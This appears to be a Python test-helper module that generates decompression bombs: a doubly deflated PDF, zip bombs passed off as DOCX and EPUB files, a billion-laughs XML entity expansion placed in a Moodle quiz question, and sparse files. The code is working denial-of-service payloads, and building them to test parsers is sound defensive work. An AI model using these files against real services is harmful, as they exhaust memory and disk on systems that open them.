"""Files that attack whoever opens them: they grow when unpacked, nest without end, or are not what they seem.

Each is small on the disk and made in a moment; the harm is what a careless reader does with it.
"""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path

MEGABYTE = 1 << 20


def blank(megabytes: int, byte: bytes = b" ") -> bytes:
    """A zlib stream of one byte over and over, made without ever holding what it unpacks to."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(byte * MEGABYTE) for _ in range(megabytes)) + packer.flush()


def pdf_bomb(megabytes: int = 300) -> bytes:
    """A PDF of one page whose content is packed twice and unpacks to `megabytes`."""
    content = zlib.compress(blank(megabytes))
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n" % len(content)
            + content
            + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def _pdf(objects: list[bytes]) -> bytes:
    """Number objects, and write the table of where each begins (ISO 32000-1, 7.5)."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, table)
    return bytes(out)


def zip_bomb(growing: str, megabytes: int = 300, others: Mapping[str, str] | None = None) -> bytes:
    """A zip with one member of `megabytes` of spaces beside small ones.

    Args:
        growing: The name of the large member.
        megabytes: Its size, unpacked.
        others: Names and texts of the small ones, written first.
    """
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, text in (others or {}).items():
            archive.writestr(name, text)
        with archive.open(growing, "w") as member:
            for _ in range(megabytes):
                member.write(b" " * MEGABYTE)
    return file.getvalue()


def docx_bomb() -> bytes:
    """A Word file whose text unpacks to 300 MB."""
    return zip_bomb("word/document.xml", others={"[Content_Types].xml": "<Types/>"})


def epub_bomb() -> bytes:
    """A book whose list of contents unpacks to 300 MB."""
    files = '<container><rootfiles><rootfile full-path="a.opf"/></rootfiles></container>'
    return zip_bomb("a.opf", others={"mimetype": "application/epub+zip", "META-INF/container.xml": files})


def laughing_xml() -> str:
    """Ten billion characters out of ten entities, in a question of Moodle's."""
    entities = ['<!ENTITY a "aaaaaaaaaa">']
    entities += [f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)]
    question = '<question type="truefalse"><questiontext><text>&j;</text></questiontext></question>'
    return f'<?xml version="1.0"?><!DOCTYPE quiz [{"".join(entities)}]><quiz>{question}</quiz>'


def sparse(path: Path, megabytes: int) -> Path:
    """A file of that size that takes no room on the disk."""
    with path.open("wb") as file:
        file.truncate(megabytes * MEGABYTE)
    return path
